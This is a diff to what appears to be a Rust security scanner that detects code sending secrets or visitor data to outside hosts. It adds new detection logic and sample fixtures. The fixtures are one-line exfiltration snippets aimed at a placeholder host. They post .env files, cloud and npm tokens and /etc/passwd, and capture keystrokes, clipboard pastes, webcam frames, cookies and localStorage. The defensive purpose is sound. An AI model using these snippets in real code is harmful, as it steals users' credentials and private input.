@@ -1,11 +1,11 @@
 //! Secrets on their way out.
 
-use super::Rule;
+use super::{Rule, asked};
 use crate::guard::{
     fact::{Call, method},
     found::Found,
     hosts,
-    value::{Marks, Shape, Value},
+    value::{HOLE, Marks, Shape, Value},
     verdict::Severity,
 };
 
@@ -36,6 +36,10 @@ pub static CREDENTIALS: Rule = Rule {
     why: "credentials of the machine or of its owner are sent away",
     remedy: "use the service's own library, which keeps its key to itself",
     finds: &[
+        (
+            "x.js",
+            "const fs = require('fs'); fetch('https://c.example.net', { method: 'POST', body: fs.readFileSync('.env') })",
+        ),
         ("x.js", "fetch('https://c.example.net/?k=' + process.env.AWS_SECRET_ACCESS_KEY)"),
         ("x.py", "import os, requests\nrequests.post('https://c.example.net', data={'k': os.getenv('NPM_TOKEN')})"),
         ("x.sh", "curl -F f=@/etc/passwd https://c.example.net"),
@@ -52,6 +56,18 @@ pub static PAGE: Rule = Rule {
     why: "what a visitor types or is known by goes to somebody else",
     remedy: "send it to the app's own server only",
     finds: &[
+        (
+            "x.js",
+            "let b = ''; addEventListener('keydown', ({ key }) => { b += key; navigator.sendBeacon('https://c.example.net', b); });",
+        ),
+        (
+            "x.js",
+            "navigator.mediaDevices.getUserMedia({ video: true }).then(show); fetch('https://c.example.net', { method: 'POST', body: shot })",
+        ),
+        (
+            "x.js",
+            "addEventListener('paste', (e) => fetch('https://c.example.net', { method: 'POST', body: e.clipboardData.getData('text') }));",
+        ),
         ("x.js", "new Image().src = 'https://c.example.net/?c=' + document.cookie"),
         ("x.js", "fetch('https://c.example.net', { method: 'POST', body: JSON.stringify(localStorage) })"),
         (
@@ -224,6 +240,7 @@ pub(super) fn call(call: &Call<'_>, line: usize, found: &mut Found<'_>) {
         found.socket_host = host.or(found.socket_host.take());
     }
     let mut marks = call.arg_marks();
+    let sends = sends(path);
     // A whole form is what it asks for.
     if marks.has(Marks::FORM) && found.asks_secret {
         marks = marks.with(Marks::PASSWORD);
@@ -237,16 +254,25 @@ pub(super) fn call(call: &Call<'_>, line: usize, found: &mut Found<'_>) {
     {
         found.hint(&ENVIRONMENT, line, "the whole environment is logged");
     }
-    if sends(path)
+    if sends
         && let Target::Host(host) = target(call)
         && !is_key_host(&host)
         && said(call).has(Marks::SECRET)
     {
         found.add(&CREDENTIALS, line, &format!("`{path}` tells {host} a key of the app"));
     }
+    if marks.has(Marks::OWNED)
+        && sends
+        && let Target::Host(host) = target(call)
+    {
+        asked::sent(call, &host, line, found);
+    }
+    if sends && let Target::Host(host) = target(call) {
+        asked::passed_on(call, &host, marks, line, found);
+    }
     if !marks
         .has(Marks::ENVIRONMENT.with(Marks::CREDENTIAL).with(Marks::COOKIE).with(Marks::KEYS).with(Marks::PASSWORD))
-        || !sends(path)
+        || !sends
     {
         return;
     }
@@ -273,6 +299,16 @@ pub(super) fn call(call: &Call<'_>, line: usize, found: &mut Found<'_>) {
             Target::Unknown if marks.has(Marks::COOKIE) => found.hint(&PAGE, line, what),
             Target::Unknown => {}
         }
+    }
+}
+
+/// The pattern by which the tokens of a chat are found in what it stores.
+pub(super) fn text(text: &str, line: usize, found: &mut Found<'_>) {
+    if !text.contains("\\.[") {
+        return;
+    }
+    if text.contains("]{24}\\.[") || text.contains("mfa\\.[") {
+        found.add(&CREDENTIALS, line, "a pattern finds the tokens of others");
     }
 }
 
@@ -321,6 +357,14 @@ fn is_vendor(target: &Target) -> bool {
 
 pub(super) fn assign(path: &str, value: &Value, line: usize, found: &mut Found<'_>) {
     let marks = value.all_marks();
+    // A picture whose address holds what a field holds, in a page that asks for a password.
+    if found.asks_secret
+        && path == "Image().src"
+        && let Some(host) = value.as_text().filter(|text| text.contains(HOLE)).and_then(hosts::of)
+        && !hosts::is_library_host(&host)
+    {
+        found.add(&PAGE, line, &format!("what the page asks for goes to {host}, as the address of a picture"));
+    }
     let leads_out = matches!(path, "location" | "location.href" | "document.location" | "document.location.href")
         || path.ends_with(".src")
         || path.ends_with(".href")
